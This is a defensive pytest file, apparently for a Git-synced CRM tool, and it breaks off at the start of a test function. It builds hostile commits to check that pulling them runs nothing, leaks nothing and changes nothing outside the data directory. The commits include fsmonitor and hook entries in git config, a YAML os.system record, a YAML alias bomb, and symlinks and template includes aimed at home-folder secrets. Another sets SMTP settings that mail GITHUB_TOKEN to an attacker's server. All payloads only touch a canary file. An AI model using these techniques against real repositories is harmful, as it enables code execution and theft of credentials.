"""A hostile repository (issue 16, item 6): an attacker with push access commits each attack
to the shared remote, the victim takes it in through plain `git pull` or `crm sync`, and then
runs every `crm` command on it, read-only and writing alike.

The attacker here is real: every attack is a commit in a bare repository (`git add -f` for the
paths git ignores), made in the attacker's own clone, and the victim is a clone with crm's hooks
installed, a warm index and its own mail settings. Payloads that would run code write a file
into `canary/`; links point at `beside/`, a folder beside the data directory holding what a
home folder holds (documents, photos, a secret, files named like crm's state). After every
command:

- no canary exists, and nothing outside the data directory changed (`beside/`, the home
  folder, the victim's `.git/config` and `.git/hooks`, the user's input files: hashed before
  and after);
- no secret of the environment was printed, written, or sent (an attacker's SMTP port on
  loopback is never connected to);
- the command worked as it does on a clean clone, or failed with one `crm: …` line and exit
  1 or 3; never a traceback, never Click's usage box;
- and at the end, no file the pull brought was lost but those the session removed itself.

The commands come from the Typer app itself: a new command fails
`test_every_command_has_a_step` until it gets a step here (117 commands, 129 steps).

Always on: each of the 15 attacks against a representative session of 14 steps (in a data
directory inside its repository for the embedded repository, which git would find first at the
top), and 9 attacks at once against all 129 steps, pulled by `crm sync`: 15 × 14 + 9 × 129 =
1,371 hostile cases. With --runslow, every attack alone against every step, pulled both ways, in
both layouts: 15 × 2 × 2 × 129 = 7,740 more, and the 9 at once inside a repository.
"""

from __future__ import annotations

import hashlib
import mailbox
import os
import shutil
import socket
import sqlite3
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import DEMO, run_crm
from gitrepos import git
from robust import Listener

SECRET = "ghp_CANARY0123456789abcdefSECRET"
"""An unrelated secret in the environment (GITHUB_TOKEN): it must never leave."""
SMTP_PASSWORD = "smtp-CANARY-pass"
PHANTOM = "PHANTOM-CANARY"
SECRET_TEXT = "SECRET-CANARY in a file beside the data directory\n"


# The session a victim runs: every command of the app, with arguments that work on the demo.
# `{name}` is the id an earlier step printed (its `capture`); `{user}` the user's own folder.

@dataclass(frozen=True)
class Step:
    command: str
    argv: tuple[str, ...]
    capture: str | None = None


def step(command: str, *args: str, capture: str | None = None, argv: tuple[str, ...] = ()) -> Step:
    return Step(command, argv or (*command.split(), *args), capture)


MEMBER_KEY = "age1q07x9xr3xe4pz0zxzxuaaz7f8ejdwadantnuxrcfmcu5n9ugrgescega7s"
"""A member's public key for `crm access add` (its private key was thrown away)."""

STEPS = [
    step("today"), step("check"), step("search", "华强"), step("show", "huaqiang"),
    step("timeline", "--party", "huaqiang", "--limit", "5"), step("ledger", "--by", "owner,month"),
    step("ledger", argv=("--at", "HEAD", "ledger")), step("customer list", argv=("--at", "HEAD~1", "customer", "list")),
    step("history"),
    step("customer list"), step("customer show", "huaqiang"), step("supplier list"), step("supplier show", "chuangxin"),
    step("contact list", "huaqiang"), step("order list"), step("order show", "SO-20261116-A9A3"),
    step("purchase list"), step("purchase show", "PO-20251124-RCF9"), step("product list"),
    step("product show", "CAB-07"), step("contract list"), step("contract show", "CT-20260220-ZSZZ"),
    *(step(f"report {name}") for name in ("receivables", "payables", "pipeline", "targets", "suppliers", "service",
                                          "segments", "forecast")),
    step("deal list"), step("deal show", "DL-20261119-002Q"), step("target list"), step("ticket list"),
    step("ticket show", "TK-20260505-GDHZ"), step("campaign list"), step("campaign show", "CP-20260921-ZS8M"),
    step("remind list"), step("remind show", "RM-20261118-DE75"), step("remind due"),
    step("remind export", "--ics", "-"),
    step("export csv", "customers"), step("export json", "orders"), step("export jsonl", "customers"),
    step("export xlsx", "customers", "--output", "{user}/out/customers.xlsx"), step("export vcard", "huaqiang"),
    step("export beancount", "--period", "2026"), step("git pre-commit"),
    step("git merge-driver", "{user}/merge/base.yaml", "{user}/merge/ours.yaml", "{user}/merge/theirs.yaml",
         "customers/huaqiang-dianzi.yaml"),
    step("init", "{user}/out/new-books", "--no-git", "--name", "New Books", "--timezone", "Asia/Shanghai"),
    # writes
    step("customer add", "Hostile Test Co", "--id", "hostile-test"),
    step("customer edit", "hostile-test", "--set", "industry=cables", "--add-tag", "hx"),
    step("customer promote", "hostile-test"), step("customer demote", "hostile-test"),
    step("customer add", "Hostile Twin", "--id", "hostile-twin"),
    step("merge", "hostile-test", "hostile-twin", "--prefer", "a"),
    step("supplier add", "Hostile Supplier", "--id", "hostile-supplier"),
    step("supplier edit", "hostile-supplier", "--set", "region=华南"),
    step("contact add", "hostile-test", "Zhang San", "--phone", "+86 138 0000 0001"),
    step("contact edit", "hostile-test", "Zhang San", "--set", "title=Buyer"),
    step("log", "hostile-test", "call", "Hostile call", "--next", "Follow up", capture="interaction"),
    step("next", "{interaction}", "--due", "+3d"), step("edit", "{interaction}", "--set", "summary=Edited call"),
    step("done", "{interaction}"), step("undone", "{interaction}"),
    step("product add", "HX-1", "Hostile cable", "--price", "10"), step("product edit", "HX-1", "--set", "price=12"),
    step("order add", "hostile-test", "--line", "HX-1 2 @ 12", capture="sale"),
    step("order edit", "{sale}", "--line", "HX-1 3 @ 12"), step("order submit", "{sale}"),
    step("order revise", "{sale}"), step("order submit", "{sale}"),
    step("order confirm", "{sale}"), step("pay", "{sale}", "10"), step("order ship", "{sale}"),
    step("order deliver", "{sale}"), step("order complete", "{sale}"),
    step("order add", "hostile-test", "--line", "HX-1 1 @ 12", capture="sale3"),
    step("order submit", "{sale3}"), step("order confirm", "{sale3}"), step("order deliver", "{sale3}"),
    step("order close", "{sale3}"),
    step("points", "hostile-test", "join"), step("points", "hostile-test"),
    step("points", "hostile-test", "redeem", "1", "--note", "hostile gift"),
    step("order add", "hostile-test", "--line", "HX-1 1 @ 12", capture="sale2"), step("order cancel", "{sale2}"),
    step("rm", "{sale2}"),
    step("purchase add", "hostile-supplier", "--line", "HX-1 5 @ 3", capture="purchase"),
    step("purchase edit", "{purchase}", "--line", "HX-1 6 @ 3"), step("purchase submit", "{purchase}"),
    step("purchase revise", "{purchase}"), step("purchase submit", "{purchase}"),
    step("purchase confirm", "{purchase}"), step("purchase receive", "{purchase}"),
    step("purchase deliver", "{purchase}"), step("purchase complete", "{purchase}"),
    step("purchase add", "hostile-supplier", "--line", "HX-1 1 @ 3", capture="purchase3"),
    step("purchase submit", "{purchase3}"), step("purchase confirm", "{purchase3}"),
    step("purchase deliver", "{purchase3}"),
    step("purchase close", "{purchase3}"),
    step("purchase add", "hostile-supplier", "--line", "HX-1 1 @ 3", capture="purchase2"),
    step("purchase cancel", "{purchase2}"),
    step("contract new", "huaqiang", "--template", "nda", "--value", "1000", capture="contract"),
    step("contract edit", "{contract}", "--set", "title=Edited NDA"),
    step("contract review", "{contract}"), step("contract revise", "{contract}"), step("contract review", "{contract}"),
    step("contract sign", "{contract}"), step("contract attach", "{contract}", "{user}/scan.pdf"),
    step("contract activate", "{contract}"), step("contract expire", "{contract}"),
    step("contract renew", "{contract}", "--start", "2027-01-01", "--end", "2027-12-31"),
    step("contract archive", "{contract}"),
    step("contract new", "huaqiang", "--template", "framework-agreement", capture="contract2"),
    step("contract terminate", "{contract2}"),
    step("deal add", "hostile-test", "Hostile deal", "--amount", "1000", capture="deal"),
    step("deal edit", "{deal}", "--amount", "1200", "--currency", "CNY"), step("deal move", "{deal}", "proposal"), step("deal won", "{deal}"),
    step("deal add", "hostile-test", "Hostile loss", capture="deal2"), step("deal lost", "{deal2}", "--reason", "price"),
    step("target set", "li", "2026-12", "1000"),
    step("ticket open", "hostile-test", "Hostile ticket", capture="ticket"),
    step("ticket edit", "{ticket}", "--set", "subject=Edited ticket"),
    step("ticket update", "{ticket}", "--status", "in-progress"),
    step("ticket resolve", "{ticket}", "--resolution", "fixed"), step("ticket close", "{ticket}", "--satisfaction", "5"),
    step("campaign add", "Hostile campaign", "--channel", "email", capture="campaign"),
    step("campaign edit", "{campaign}", "--set", "budget=100", "--set", "currency=CNY"),
    step("campaign add-members", "{campaign}", "tag:hx"),
    step("remind add", "hostile-test", "Hostile reminder", "--due", "today", capture="reminder"),
    step("remind edit", "{reminder}", "--text", "Edited reminder"), step("remind snooze", "{reminder}", "tomorrow"), step("remind done", "{reminder}"),
    step("remind add", "hostile-test", "Hostile reminder 2", capture="reminder2"), step("remind rm", "{reminder2}"),
    step("remind due", "--mail-to", "li@example.com"),
    step("import csv", "{user}/people.csv", "--kind", "customer"),
    step("import xlsx", "{user}/people.xlsx", "--kind", "supplier"),
    step("import vcard", "{user}/cards.vcf"),
    step("mail import", "{user}/Maildir", "--attachments"), step("mail log", "{user}/message.eml"),
    step("access list"), step("access check"), step("access init"), step("access add", "sales", MEMBER_KEY),
    step("access remove", "sales", MEMBER_KEY), step("access rotate"),
    step("backup", "{user}/out/crm.backup"), step("restore", "{user}/out/crm.backup", "{user}/out/restored"),
    step("reindex"), step("history", "customers/hostile-test"), step("undo"), step("sync"),
    step("git install-hooks"),
    step("contact rm", "hostile-test", "Zhang San"), step("product rm", "HX-1", "--force"),
    step("supplier rm", "hostile-supplier", "--force"), step("customer rm", "hostile-test", "--force"),
    step("supplier rm", "jinglian-xianlan", "--force"),
]
REMOVED_PARTY = "jinglian-xianlan"
"""The demo party the session removes with --force: its records go (and must take nothing else)."""

REPRESENTATIVE = [
    "today", "check", "search 华强", "--at HEAD ledger", "customer add Hostile Test Co --id hostile-test",
    "log hostile-test call Hostile call --next Follow up", "contract new huaqiang --template nda --value 1000",
    "contract attach {contract} {user}/scan.pdf", "remind due --mail-to li@example.com", "undo", "sync",
    "git install-hooks", "customer rm hostile-test --force", "supplier rm jinglian-xianlan --force",
]
"""The steps of the always-on session of each attack: reads, --at, every kind of write, git,
mail, and a forced removal of a party whose files an attack links elsewhere."""
REPORTS_PROBLEMS = {"check", "git pre-commit", "sync", "access check"}
"""Commands whose exit 1 is a report of problems (`crm check`'s, one per line), not an error."""


def all_commands() -> set[str]:
    """Every leaf command of the app, as its words (`contract attach`)."""
    import click

    from crmcli.cli import command_tree
    from crmcli.cli.language import walk

    return {" ".join(path[1:]) for path, command in walk(command_tree(), ["crm"])
            if not isinstance(command, click.Group)}


# The world: a remote, the victim's clone, what lies beside it.

@dataclass
class World:
    top: Path
    layout: str
    """"top": the data directory is its repository's top; "inside": a folder `books/` in it."""
    attacker_port: int = 0

    @property
    def remote(self) -> Path:
        return self.top / "remote.git"

    @property
    def victim(self) -> Path:
        """The victim's work tree."""
        return self.top / "victim"

    @property
    def data(self) -> Path:
        return self.victim if self.layout == "top" else self.victim / "books"

    @property
    def beside(self) -> Path:
        return self.top / "beside"

    @property
    def canary(self) -> Path:
        return self.top / "canary"

    @property
    def user(self) -> Path:
        return self.top / "user"

    def touch(self, name: str) -> str:
        """A shell command that proves it ran."""
        return f"touch {self.canary / name}"

    def crm(self, *args: str) -> object:
        return run_crm("--data-dir", self.data, *args)


def tree_digest(root: Path, skip=()) -> dict[str, str]:
    """Every entry under `root` (files by content, links by target, folders by name)."""
    found = {}
    if not root.exists():
        return found
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root).as_posix()
        if any(relative == s or relative.startswith(s + "/") for s in skip):
            continue
        if path.is_symlink():
            found[relative] = "-> " + os.readlink(path)
        elif path.is_file():
            found[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            found[relative] = "dir"
    return found


def link(path: Path, target: Path) -> None:
    """A relative link at `path` to `target`, as git stores one."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_symlink() or path.is_file():
        path.unlink()
    elif path.is_dir():
        shutil.rmtree(path)
    path.symlink_to(os.path.relpath(target, path.parent))


def plant_beside(world: World) -> None:
    """What a home folder holds, beside the data directory, and files named like crm's state."""
    beside = world.beside
    for relative, text in {"Documents/report.txt": "quarterly report\n", "Photos/cat.jpg": "not really a cat\n",
                           "secret.txt": SECRET_TEXT, "index.sqlite": "not an index\n", "journal": "not a journal\n",
                           "lock": "not a lock\n", "gitattributes": "# the user's own\n",
                           ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nCANARY\n",
                           "other-books/crm.yaml": "business: {name: Other Books}\ncurrency: CNY\n"}.items():
        path = beside / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    world.canary.mkdir()


def plant_user_files(world: World) -> None:
    """The user's own inputs: files to import and attach, a merge driver's three versions."""
    from openpyxl import Workbook

    user = world.user
    (user / "out").mkdir(parents=True)
    (user / "merge").mkdir()
    (user / "scan.pdf").write_bytes(b"%PDF-1.4 signed scan\n")
    (user / "people.csv").write_text("name,city\nImported Csv Co,深圳\n", encoding="utf-8")
    book = Workbook()
    book.active.append(["name", "city"])
    book.active.append(["Imported Xlsx Co", "上海"])
    book.save(user / "people.xlsx")
    (user / "cards.vcf").write_text("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Imported Card\r\nORG:Card Co\r\n"
                                    "END:VCARD\r\n", encoding="utf-8")
    message = (b"From: purchasing@huaqiang.example\nTo: li@example.com\nSubject: Hostile mail\nMessage-ID: <h1@x>\n"
               b"Date: Fri, 20 Nov 2026 16:30:00 +0800\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nsee file\n"
               b"--b\nContent-Disposition: attachment; filename=\"../../quote.pdf\"\n\n%PDF\n--b--\n")
    mailbox.Maildir(user / "Maildir", create=True).add(message)
    (user / "message.eml").write_bytes(message.replace(b"<h1@x>", b"<h2@x>"))
    party = (DEMO / "customers" / "huaqiang-dianzi.yaml").read_text(encoding="utf-8")
    for name, text in (("base", party), ("ours", party.replace("net 30", "net 45")), ("theirs", party)):
        (user / "merge" / f"{name}.yaml").write_text(text, encoding="utf-8")


@pytest.fixture(scope="session")
def seeds(tmp_path_factory) -> dict[str, Path]:
    """Per layout, a world before any attack: the remote holding the demo, the victim's clone
    (crm's hooks installed, index warm), `beside/`, `canary/` and the user's files. Built once,
    copied for each test."""
    built = {}
    for layout in ("top", "inside"):
        top = tmp_path_factory.mktemp(f"seed-{layout}") / "w"
        world = World(top, layout)
        author = top / "author"
        data = author if layout == "top" else author / "books"
        shutil.copytree(DEMO, data, ignore=shutil.ignore_patterns(".crm"))
        git(top, "init", "-q", "--bare", "-b", "main", str(world.remote))
        git(author, "init", "-q", "-b", "main")
        git(author, "add", "-A")
        git(author, "commit", "-q", "-m", "the books")
        result = run_crm("--data-dir", data, "git", "install-hooks")
        assert result.code == 0, result.err
        git(author, "remote", "add", "origin", str(world.remote))
        git(author, "push", "-q", "-u", "origin", "main")
        shutil.rmtree(author)
        git(top, "clone", "-q", str(world.remote), "victim")
        for args in (("git", "install-hooks"), ("customer", "list")):
            result = world.crm(*args)
            assert result.code == 0, result.err
        plant_beside(world)
        plant_user_files(world)
        built[layout] = top
    return built


@dataclass
class Mail:
    """The victim's own mail server (what it received) and the attacker's."""

    inbox: list[bytes]
    attacker: Listener

    def assert_no_secret_left(self) -> None:
        assert not self.attacker.reached(), "the attacker's mail server was reached"
        assert not any(SECRET.encode() in message for message in self.inbox), "a secret was mailed"


@pytest.fixture
def mail(monkeypatch):
    """The victim's own mail server (a real SMTP server on loopback, in the user's own settings),
    the attacker's, and secrets in the environment: GITHUB_TOKEN, and CRM_SMTP_PASSWORD (which
    the victim's settings do not even ask for)."""
    from aiosmtpd.controller import Controller

    inbox: list[bytes] = []

    class Handler:
        async def handle_DATA(self, server, session, envelope):
            inbox.append(envelope.content)
            return "250 OK"

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(Handler(), hostname="127.0.0.1", port=port, auth_require_tls=False)
    controller.start()
    attacker = Listener()
    settings = Path(os.environ["XDG_CONFIG_HOME"]) / "crm" / "config.yaml"
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text(f"smtp:\n  host: 127.0.0.1\n  port: {port}\n  security: none\n"
                        "  from: crm@victim.example\n", encoding="utf-8")
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    monkeypatch.setenv("CRM_SMTP_PASSWORD", SMTP_PASSWORD)
    yield Mail(inbox, attacker)
    controller.stop()
    attacker.socket.close()


# The attacks. Each writes into the attacker's data directory `data`; `world` says where the
# victim's things are (an attacker with push access may well know or guess them).

def journal_lines(*entries: str) -> bytes:
    return "".join(entry + "\n" for entry in entries).encode()


def attack_journal(data: Path, world: World) -> None:
    """A journal in crm's own format under `.crm/` (git ignores it: `git add -f`), rolling
    forward a 'write' of `.git/config` with an fsmonitor and of a hook, and removing crm.yaml,
    a record, HEAD and a file beside the data directory."""
    payload = f"[core]\n\tfsmonitor = \"{world.touch('journal-fsmonitor')}; false\"\n"
    (data / ".crm").mkdir(exist_ok=True)
    (data / ".crm-tmp-config.yaml").write_text(payload)
    (data / ".crm-tmp-hook.yaml").write_text(f"#!/bin/sh\n{world.touch('journal-hook')}\n")
    (data / ".crm" / "journal").write_bytes(journal_lines(
        '{"temp": ".crm-tmp-config.yaml", "target": ".git/config"}',
        '{"temp": ".crm-tmp-hook.yaml", "target": ".git/hooks/reference-transaction"}',
        '{"temp": "customers/.crm-tmp-x.yaml", "target": "../beside/Documents/report.txt"}',
        '{"commit": true, "remove": ["crm.yaml", "customers/huaqiang-dianzi.yaml", ".git/HEAD", '
        '"../beside/Photos/cat.jpg", "../../beside/Photos/cat.jpg"]}'))


def attack_state_links(data: Path, world: World) -> None:
    """Links where crm once kept its state: `.crm/index.sqlite`, `journal`, `lock` and `at`
    pointing beside the data directory (and two levels up, for `--at` to clean)."""
    for name in ("index.sqlite", "journal", "lock"):
        link(data / ".crm" / name, world.beside / name)
    link(data / ".crm" / "at", world.top)
    link(data / ".crm" / "state", world.beside)


def attack_crm_link_up(data: Path, world: World) -> None:
    """`.crm` itself a link two levels up (git ignores `.crm/` only as a folder)."""
    link(data / ".crm", world.top)


def attack_crm_link_parent(data: Path, world: World) -> None:
    """`.crm` a link to the folder holding the data directory."""
    link(data / ".crm", data.parent)


def attack_forged_index(data: Path, world: World) -> None:
    """The victim's own index, taken and changed: a party renamed in it that no file backs, its
    stored root set to where the victim keeps the data."""
    from crmcli.store.state import state_dir

    source = state_dir(world.data) / "index.sqlite"
    target = data / ".crm" / "index.sqlite"
    target.parent.mkdir(exist_ok=True)
    with sqlite3.connect(source) as original, sqlite3.connect(target) as copy:
        original.backup(copy)  # with what is still in its write-ahead log
    original.close()
    copy.close()
    with sqlite3.connect(target) as db:
        db.execute("UPDATE meta SET value = ? WHERE key = 'root'", (str(world.data.resolve()),))
        for table, column in (("files", "data"), ("names", "name"), ("names", "folded"), ("fts", "name")):
            db.execute(f"UPDATE {table} SET {column} = replace({column}, '深圳市华强电子有限公司', ?)",
                       (PHANTOM,))
    db.close()


def attack_attachment_links(data: Path, world: World) -> None:
    """A contract's scan replaced by a link to a document beside the data directory; another
    contract's attachments folder (of the party the session removes) a link to the photos."""
    link(data / "attachments" / "CT-20260220-ZSZZ" / "scan-signed.pdf", world.beside / "Documents" / "report.txt")
    link(data / "attachments" / "CT-20251125-RXB0", world.beside / "Photos")
    link(data / "contracts" / "CT-20251125-RXB0.md", world.beside / "secret.txt")


def attack_template_links(data: Path, world: World) -> None:
    """The NDA template a link to a secret; the framework agreement including one by path."""
    link(data / "templates" / "nda.md", world.beside / "secret.txt")
    (data / "templates" / "framework-agreement.md").write_text(
        "{% include '../../beside/secret.txt' %}{% include '" + str(world.beside / "secret.txt") + "' %}")


def attack_record_links(data: Path, world: World) -> None:
    """A record file linked to a secret, and record folders (this month's interactions, this
    year's orders, the campaigns) replaced by links beside the data directory, for writes to go
    through."""
    (world.beside / "evil.yaml").write_text(f"id: evil\nname: {SECRET_TEXT.strip()}\n")
    link(data / "customers" / "evil.yaml", world.beside / "evil.yaml")
    link(data / "interactions" / "2026" / "11", world.beside / "Photos")
    link(data / "orders" / "2026", world.beside / "Documents")
    link(data / "campaigns", world.beside)


def attack_gitattributes_link(data: Path, world: World) -> None:
    """`.gitattributes` (which crm writes) a link to the user's own file beside it."""
    link(data / ".gitattributes", world.beside / "gitattributes")


def attack_embedded_repository(data: Path, world: World) -> None:
    """A bare repository's layout committed into the data directory (HEAD, config, objects/,
    refs/): git run inside a data directory below its repository's top takes it for the
    repository, and its config would run an fsmonitor and hooks."""
    hooks = data / "evil-hooks"
    hooks.mkdir()
    for name in ("reference-transaction", "post-commit", "pre-commit", "post-checkout", "post-merge"):
        (hooks / name).write_text(f"#!/bin/sh\n{world.touch('hook-' + name)}\n")
        (hooks / name).chmod(0o755)
    (data / "HEAD").write_text("ref: refs/heads/main\n")
    (data / "config").write_text(f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n"
                                 f"\tfsmonitor = \"{world.touch('fsmonitor')}; false\"\n"
                                 f"\thooksPath = {hooks}\n\tsshCommand = {world.touch('ssh')}\n")
    for folder in ("objects/info", "refs/heads"):
        (data / folder).mkdir(parents=True)
        (data / folder / ".keep").write_text("")


def attack_mail_settings(data: Path, world: World) -> None:
    """crm.yaml choosing the mail server (the attacker's), the secret sent as the password,
    no encryption, and a sender."""
    config = data / "crm.yaml"
    config.write_text(config.read_text(encoding="utf-8") + f"smtp:\n  host: 127.0.0.1\n  port: {world.attacker_port}\n"
                      "  security: none\n  user: victim\n  password_env: GITHUB_TOKEN\n  from: evil@example.com\n",
                      encoding="utf-8")


def attack_config_link(data: Path, world: World) -> None:
    """crm.yaml a link to another data directory's settings beside this one."""
    link(data / "crm.yaml", world.beside / "other-books" / "crm.yaml")


def attack_config_huge(data: Path, world: World) -> None:
    config = data / "crm.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "# padding\n" * 40_000, encoding="utf-8")


def attack_config_deep(data: Path, world: World) -> None:
    config = data / "crm.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "custom: " + "[" * 5000 + "]" * 5000 + "\n",
                      encoding="utf-8")


def attack_broken_records(data: Path, world: World) -> None:
    """Records that try to run code, explode, or sit out of range, and one with conflict markers."""
    files = {
        "customers/evil-python.yaml": f"id: evil-python\nname: !!python/object/apply:os.system ['{world.touch('yaml')}']\n",
        "customers/evil-bomb.yaml": "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                                    "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c]\n",
        "customers/evil-deep.yaml": "id: evil-deep\nname: x\ncustom: " + "[" * 20_000 + "]" * 20_000 + "\n",
        "interactions/2026/10/IN-20261001-EVIL.yaml": (
            "id: IN-20261001-EVIL\nparty: customers/huaqiang-dianzi\ntype: call\nat: 9999-12-31T23:00:00-12:00\n"
            "summary: far away\ncreated: 2026-01-01T00:00:00+08:00\nupdated: 2026-01-01T00:00:00+08:00\n"),
        "suppliers/evil-conflict.yaml": "<<<<<<< HEAD\nid: a\n=======\nid: b\n>>>>>>> theirs\n",
    }
    for relative, text in files.items():
        (data / relative).parent.mkdir(parents=True, exist_ok=True)
        (data / relative).write_text(text, encoding="utf-8")


@dataclass(frozen=True)
class Attack:
    apply: object
    unnoticed: bool = False
    """Nothing in it is data crm reads: every command must answer exactly as on a clean clone."""


ATTACKS = {
    "journal-under-crm": Attack(attack_journal, unnoticed=True),
    "state-links-under-crm": Attack(attack_state_links, unnoticed=True),
    "crm-link-two-up": Attack(attack_crm_link_up, unnoticed=True),
    "crm-link-to-parent": Attack(attack_crm_link_parent, unnoticed=True),
    "forged-index": Attack(attack_forged_index, unnoticed=True),
    "embedded-repository": Attack(attack_embedded_repository),
    "attachment-links": Attack(attack_attachment_links),
    "template-links": Attack(attack_template_links),
    "record-links": Attack(attack_record_links),
    "gitattributes-link": Attack(attack_gitattributes_link),
    "broken-records": Attack(attack_broken_records),
    "mail-settings": Attack(attack_mail_settings),
    "crm-yaml-link-outside": Attack(attack_config_link),
    "crm-yaml-huge": Attack(attack_config_huge),
    "crm-yaml-deep": Attack(attack_config_deep),
}
TOGETHER = ["journal-under-crm", "forged-index", "embedded-repository", "attachment-links", "template-links",
            "record-links", "gitattributes-link", "broken-records", "mail-settings"]
"""The attacks that fit in one commit (the `.crm` links exclude the journal and the index, a
broken crm.yaml everything else)."""


def build_world(seed: Path, target: Path, layout: str, mail: Mail) -> World:
    shutil.copytree(seed, target, symlinks=True)
    world = World(target, layout)
    git(world.victim, "remote", "set-url", "origin", str(world.remote))
    world.attacker_port = mail.attacker.port
    return world


def attack(world: World, names: list[str], pull: str) -> None:
    """The attacker clones the remote, commits `names`, pushes; the victim pulls (`git pull`
    or `crm sync`)."""
    attacker = world.top / "attacker"
    git(world.top, "clone", "-q", str(world.remote), "attacker")
    data = attacker if world.layout == "top" else attacker / "books"
    for name in names:
        ATTACKS[name].apply(data, world)
    git(attacker, "add", "-f", "-A")
    git(attacker, "commit", "-q", "-m", "a harmless update, honest")
    git(attacker, "push", "-q", "origin", "main")
    shutil.rmtree(attacker)
    if pull == "git pull":
        git(world.victim, "-c", "pull.rebase=false", "pull", "-q", "--no-edit")
    else:
        result = world.crm("sync")  # exit 1 when the check after the merge finds the attack's problems
        assert result.code in (0, 1) and "pulled 1 commit(s)" in result.err, result.err
    assert not list(world.canary.iterdir()), "git itself ran a payload"


def outside(world: World) -> dict[str, str]:
    """What must not change: beside/, canary/, the user's inputs, the home folder and the
    victim's git config and hooks."""
    home = Path(os.environ["HOME"])
    state = {}
    for name, root, skip in (("beside", world.beside, ()), ("canary", world.canary, ()),
                             ("user", world.user, ("out", "merge")),
                             ("home", home, ("xdg-cache", "xdg-config/crm/identity.txt")),  # the key access init makes
                             ("hooks", world.victim / ".git" / "hooks", ())):
        state.update({f"{name}/{key}": value for key, value in tree_digest(root, skip).items()})
    state[".git/config"] = hashlib.sha256((world.victim / ".git" / "config").read_bytes()).hexdigest()
    return state


class Missing(dict):
    """Captured ids; one an earlier step did not print stays a `{placeholder}`."""

    def __missing__(self, key):
        return "{" + key + "}"


def one_line_failure(err: str) -> bool:
    lines = [line for line in err.splitlines() if line.strip() and not line.startswith("warning: ")]
    return len(lines) == 1 and lines[0].startswith("crm: ")


def run_session(world: World, steps: list[Step], attack_names: list[str]) -> dict:
    """Run `steps` in the victim's data directory, checking each; returns {step index: exit code}.
    On a clean clone every step works (`test_every_step_works_on_a_clean_clone`), so under an
    attack that crm must not even notice every step still has to."""
    before = outside(world)
    pulled, expected = set(tree_digest(world.data, (".git",))), removed_with_party(world.data)
    captured = {"user": str(world.user)}
    codes, problems = {}, []
    unnoticed = all(ATTACKS[name].unnoticed for name in attack_names)
    for number, one in enumerate(steps):
        argv = [arg.format_map(Missing(captured)) for arg in one.argv]
        if any("{" in arg for arg in argv):
            continue  # the step that makes its record failed (with one line): nothing to act on
        started = time.perf_counter()
        result = world.crm(*argv)
        if os.environ.get("CRM_TIMES"):
            print(f"{time.perf_counter() - started:6.2f} {result.code} {' '.join(argv)} {result.err.strip()[:300]}")
        everything = result.out + result.err
        codes[number] = result.code
        where = f"{' '.join(argv)} → {result.code}: {result.err.strip()[-600:]}"
        if one.capture and result.code == 0:
            captured[one.capture] = result.out.strip().split()[0]
        if "Traceback" in everything or "internal error" in everything or "Usage:" in everything:
            problems.append(f"not one line: {where}")
        elif result.code != 0 and (result.code not in (1, 3) or not one_line_failure(result.err)) \
                and not (one.command in REPORTS_PROBLEMS and result.code == 1):
            problems.append(f"not one clear line with exit 1 or 3: {where}")
        elif unnoticed and result.code != 0 and one.command not in REPORTS_PROBLEMS:
            problems.append(f"fails where a clean clone works: {where}")
        for secret in (SECRET, SMTP_PASSWORD, SECRET_TEXT.strip(), PHANTOM, "CANARY"):
            if secret in everything:
                problems.append(f"printed {secret!r}: {where}")
        if list(world.canary.iterdir()):
            problems.append(f"a payload ran: {sorted(p.name for p in world.canary.iterdir())}: {where}")
            break
        after = outside(world)
        changed = {key for key in before.keys() | after.keys() if before.get(key) != after.get(key)}
        if changed:
            problems.append(f"changed outside the data directory: {sorted(changed)}: {where}")
            break
    problems += lost_files(world, pulled, expected)
    problems += leaked_secrets(world)
    assert not problems, "\n".join(problems)
    return codes


def removed_with_party(data: Path) -> set[str]:
    """The files `supplier rm REMOVED_PARTY --force` takes: the party, the records that name
    it, and their documents and attachments."""
    party = f"suppliers/{REMOVED_PARTY}"
    gone = {f"{party}.yaml"}
    for path in data.rglob("*.yaml"):
        if path.is_file() and not path.is_symlink() and f": {party}\n" in path.read_text("utf-8", "replace"):
            gone.add(path.relative_to(data).as_posix())
    for record in list(gone):
        name = record.rsplit("/", 1)[-1].removesuffix(".yaml")
        gone |= {f"contracts/{name}.md", f"attachments/{name}"}
    return gone


def lost_files(world: World, pulled: set[str], expected: set[str]) -> list[str]:
    """Files the pull brought that are gone, but for those the session removed on purpose."""
    now = set(tree_digest(world.data, (".git",)))
    return [f"lost: {path}" for path in sorted(pulled - now)
            if not any(path == gone or path.startswith(gone + "/") for gone in expected)]


def leaked_secrets(world: World) -> list[str]:
    """The environment's secrets written into any file of the world or the home folder."""
    found = []
    for root in (world.top, Path(os.environ["HOME"])):
        for path in root.rglob("*"):
            if path.is_file() and not path.is_symlink():
                data = path.read_bytes()
                if SECRET.encode() in data or SMTP_PASSWORD.encode() in data:
                    found.append(f"secret written to {path}")
    return found


# The tests.

def test_every_command_has_a_step():
    assert all_commands() == {one.command for one in STEPS}
    assert set(REPRESENTATIVE) <= {" ".join(one.argv) for one in STEPS}


def test_every_step_works_on_a_clean_clone(seeds, tmp_path, mail):
    world = build_world(seeds["top"], tmp_path / "w", "top", mail)
    codes = run_session(world, STEPS, [])
    assert len(codes) == len(STEPS)
    failing = [" ".join(STEPS[number].argv) for number, code in codes.items() if code != 0]
    assert failing == [], failing
    assert len(mail.inbox) == 1, "the digest went to the user's own mail server"
    mail.assert_no_secret_left()


@pytest.mark.parametrize("name", list(ATTACKS))
def test_each_attack_against_a_representative_session(seeds, tmp_path, mail, name):
